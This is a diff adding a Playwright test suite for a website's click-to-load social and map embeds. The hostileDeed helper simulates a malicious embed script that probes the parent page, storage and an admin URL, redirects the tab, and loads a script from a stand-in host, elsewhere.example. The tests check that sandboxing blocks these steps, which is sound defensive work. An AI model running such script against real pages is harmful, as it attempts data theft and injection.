@@ -1,0 +1,234 @@
+import type { Page } from '@playwright/test'
+import { journey } from '#app/features/embeds/journey.ts'
+import { company } from '#app/shared/company.ts'
+import { expect, test } from './fixtures.ts'
+
+const ALWAYS = 'Always load posts, video and map'
+
+test('HOME-12, HOME-13: the grid holds six posts and one video, as cards of our own', async ({ page }) => {
+  const outside = await standInForNetworks(page)
+  for (const path of ['/', '/about']) {
+    await page.goto(path)
+    const grid = page.getByRole('region', { name: 'Follow Our Journey' })
+    await expect(grid.getByRole('listitem')).toHaveCount(7)
+    await expect(grid.getByRole('link', { name: /^Show post/ })).toHaveCount(6)
+    await expect(grid.getByRole('link', { name: /^Play video/ })).toHaveCount(1)
+    for (const item of journey) {
+      const card = grid.getByRole('listitem').filter({ hasText: item.caption })
+      await expect(card.getByRole('link', { name: `Open on ${item.network}` })).toHaveAttribute(
+        'href',
+        item.url,
+      )
+      await expect(card.getByRole('link', { name: `Open on ${item.network}` })).toHaveAttribute(
+        'rel',
+        'noopener noreferrer',
+      )
+    }
+  }
+  expect(outside.asked).toEqual([])
+})
+
+test('HOME-14: a post that is asked for comes by the embed script of its network', async ({ page }) => {
+  const outside = await standInForNetworks(page)
+  await page.goto('/about')
+  await page.getByRole('link', { name: /^Show post \(Restore drill/ }).click()
+  const post = page
+    .frameLocator('iframe[title^="X: Restore drill"]')
+    .frameLocator('iframe')
+    .frameLocator('iframe')
+  await expect(post.getByText('Drawn by X')).toBeVisible()
+  expect(outside.asked[0]).toBe('https://platform.twitter.com/widgets.js')
+  await page.getByRole('link', { name: /^Hide post/ }).click()
+  await expect(page.locator('iframe[title^="X:"]')).toHaveCount(0)
+  await expect(page.getByRole('link', { name: /^Show post/ })).toHaveCount(6)
+})
+
+test('HOME-14: the video comes by the video script of its network', async ({ page }) => {
+  const outside = await standInForNetworks(page)
+  await page.goto('/')
+  await page.getByRole('link', { name: /^Play video/ }).click()
+  const video = page.frameLocator('iframe[title^="TikTok:"]').frameLocator('iframe').frameLocator('iframe')
+  await expect(video.getByText('Drawn by TikTok')).toBeVisible()
+  expect(outside.asked[0]).toBe('https://www.tiktok.com/embed.js')
+})
+
+test('HOME-14: a network’s script reaches neither our page nor another host', async ({
+  page,
+  server,
+  faults,
+}) => {
+  faults.expect(/elsewhere\.example/)
+  faults.expect(/admin\/dashboard/)
+  faults.expect(/Unsafe attempt to initiate navigation/)
+  const outside = await standInForNetworks(page, hostileDeed(`${server.origin}/admin/dashboard`))
+  const heard: string[] = []
+  page.on('console', (message) => heard.push(message.text()))
+  await page.goto('/about')
+  await page.getByRole('link', { name: /^Show post \(Restore drill/ }).click()
+  for (const line of [
+    'the script: null',
+    'our page: SecurityError',
+    'our embed: SecurityError',
+    'our storage: SecurityError',
+    'our address: refused',
+    'its frame: https://platform.twitter.com',
+  ]) {
+    await expect.poll(() => heard).toContain(line)
+  }
+  // Only after a press inside the frame would a browser let it lead the tab elsewhere.
+  await page
+    .frameLocator('iframe[title^="X:"]')
+    .frameLocator('iframe')
+    .locator('body')
+    .click({ position: { x: 2, y: 2 } })
+  await expect.poll(() => heard).toContain('our tab: SecurityError')
+  expect(page.url()).toBe(`${server.origin}/about`)
+  expect(outside.asked.filter((url) => url.includes('elsewhere'))).toEqual([])
+})
+
+test('HOME-14: without the network’s answer its caption and a link stay', async ({ page, faults }) => {
+  faults.expect(/Failed to load resource/)
+  await page.route('https://**', (route) => route.abort())
+  await page.goto('/about')
+  await page.getByRole('link', { name: /^Show post \(Restore drill/ }).click()
+  const frame = page.frameLocator('iframe[title^="X:"]').frameLocator('iframe')
+  await expect(frame.getByText('Restore drill')).toBeVisible()
+  await expect(frame.getByRole('link', { name: 'Open on X' })).toHaveAttribute('href', /^https:\/\/x\.com\//)
+})
+
+test('CONTACT-03, CONTACT-04: the map is a card of our own until its link is followed', async ({ page }) => {
+  const outside = await standInForNetworks(page)
+  for (const path of ['/', '/about', '/services', '/contact']) {
+    await page.goto(path)
+    const frame = page.locator('iframe[title="Our Location"]')
+    await expect(frame).toHaveCount(1)
+    await frame.scrollIntoViewIfNeeded()
+    const card = page.frameLocator('iframe[title="Our Location"]')
+    await expect(card.getByRole('heading', { name: company.address.building })).toBeVisible()
+    expect(outside.asked).toEqual([])
+    await card.getByRole('link', { name: 'Show map' }).click()
+    await expect(card.frameLocator('iframe').getByText('Drawn by OpenStreetMap')).toBeVisible()
+    expect(outside.asked.splice(0)).toEqual([
+      expect.stringMatching(
+        /^https:\/\/www\.openstreetmap\.org\/export\/embed\.html\?.*marker=-1\.94%2C30\.09/,
+      ),
+    ])
+  }
+})
+
+test('CONTACT-04: the map that was let in adds no step to the way back', async ({ page }) => {
+  await standInForNetworks(page)
+  const links = page.getByRole('navigation', { name: 'Main' }).getByRole('link')
+  await page.goto('/services')
+  await links.filter({ hasText: 'Contact' }).click()
+  await expect(page.getByRole('heading', { level: 1, name: 'Contact' })).toBeVisible()
+  await page.locator('iframe[title="Our Location"]').scrollIntoViewIfNeeded()
+  const card = page.frameLocator('iframe[title="Our Location"]')
+  await card.getByRole('link', { name: 'Show map' }).click()
+  await expect(card.frameLocator('iframe').getByText('Drawn by OpenStreetMap')).toBeVisible()
+  await page.goBack()
+  await expect(page).toHaveURL('/services')
+})
+
+test('CONTACT-03: the card in the frame follows the theme of the page around it', async ({ newPage }) => {
+  const page = await newPage({ colorScheme: 'light' })
+  await page.goto('/contact')
+  await page.locator('iframe[title="Our Location"]').scrollIntoViewIfNeeded()
+  const card = page.frameLocator('iframe[title="Our Location"]').locator('body')
+  await expect(card).toHaveCSS('background-color', 'rgb(255, 255, 255)')
+  await page.getByRole('button', { name: 'Switch to dark theme' }).click()
+  await expect(card).toHaveCSS('background-color', 'rgb(27, 24, 21)')
+  await page.reload()
+  await page.locator('iframe[title="Our Location"]').scrollIntoViewIfNeeded()
+  await expect(card).toHaveCSS('background-color', 'rgb(27, 24, 21)')
+})
+
+test('CONTACT-04: the map loads without JavaScript', async ({ newPage }) => {
+  const page = await newPage({ javaScriptEnabled: false })
+  await standInForNetworks(page)
+  await page.goto('/contact')
+  await page.locator('iframe[title="Our Location"]').scrollIntoViewIfNeeded()
+  const card = page.frameLocator('iframe[title="Our Location"]')
+  await card.getByRole('link', { name: 'Show map' }).click()
+  await expect(card.frameLocator('iframe').getByText('Drawn by OpenStreetMap')).toBeVisible()
+  await expect(page.getByLabel(ALWAYS)).toBeHidden()
+})
+
+test('HOME-13: without JavaScript a post opens in a tab of its own', async ({ newPage }) => {
+  const page = await newPage({ javaScriptEnabled: false })
+  await page.goto('/about')
+  const opened = page.waitForEvent('popup')
+  await page.getByRole('link', { name: /^Show post \(Restore drill/ }).click()
+  const card = await opened
+  await expect(card).toHaveURL('/embeds/restore-drill')
+  await card.getByRole('link', { name: 'Show post' }).click()
+  await expect(card.frameLocator('iframe').getByText('Restore drill')).toBeVisible()
+})
+
+test('HOME-14, CONTACT-04: a visitor who chose always sees posts, video and map at once', async ({
+  page,
+}) => {
+  const outside = await standInForNetworks(page)
+  await page.goto('/about')
+  await page.getByLabel(ALWAYS).first().check()
+  await expect(page.locator('iframe[title^="X:"]')).toHaveCount(6)
+  await expect(page.getByLabel(ALWAYS).last()).toBeChecked()
+
+  await page.goto('/contact')
+  const frame = page.locator('iframe[title="Our Location"]')
+  await expect(frame).toHaveAttribute('src', '/embeds/map/show')
+  await frame.scrollIntoViewIfNeeded()
+  const map = page.frameLocator('iframe[title="Our Location"]').frameLocator('iframe')
+  await expect(map.getByText('Drawn by OpenStreetMap')).toBeVisible()
+
+  await page.getByLabel(ALWAYS).uncheck()
+  await expect(frame).toHaveAttribute('src', '/embeds/map')
+  await page.reload()
+  outside.asked.length = 0
+  await expect(page.getByLabel(ALWAYS)).not.toBeChecked()
+  await page.goto('/about')
+  await expect(page.getByRole('link', { name: /^Show post/ })).toHaveCount(6)
+  expect(outside.asked).toEqual([])
+})
+
+/** Answers in place of the networks and the map, and notes what they were asked. */
+async function standInForNetworks(page: Page, deed = ''): Promise<{ asked: string[] }> {
+  const asked: string[] = []
+  await page.context().route(/^https:\/\//, async (route) => {
+    const url = route.request().url()
+    asked.push(url)
+    if (url.endsWith('.js')) {
+      const frame = url.includes('tiktok')
+        ? 'https://www.tiktok.com/frame?TikTok'
+        : 'https://platform.twitter.com/frame?X'
+      return route.fulfill({ contentType: 'text/javascript', body: deed + drawFrame(frame) })
+    }
+    const name = url.includes('openstreetmap') ? 'OpenStreetMap' : new URL(url).search.slice(1)
+    const body = `<p>Drawn by ${name}</p><script>console.log('its frame: ' + origin)</script>`
+    return route.fulfill({ contentType: 'text/html', body })
+  })
+  return { asked }
+}
+
+/** What an embed script does: a frame of its network takes the place of our text. */
+function drawFrame(src: string): string {
+  return `document.querySelector('blockquote').replaceWith(
+    Object.assign(document.createElement('iframe'), { src: '${src}' }))`
+}
+
+/** What a hostile one would try as well. */
+function hostileDeed(ourAddress: string): string {
+  return `
+    function attempt(name, act) {
+      try { act(); console.log(name + ': reached') } catch (error) { console.log(name + ': ' + error.name) }
+    }
+    console.log('the script: ' + origin)
+    attempt('our page', () => top.document.title)
+    attempt('our embed', () => parent.document.title)
+    attempt('our storage', () => localStorage.length)
+    document.addEventListener('click', () => attempt('our tab', () => { top.location = 'https://elsewhere.example/' }))
+    fetch('${ourAddress}').then(
+      () => console.log('our address: reached'), () => console.log('our address: refused'))
+    document.body.append(
+      Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/collect.js' }));`
+}
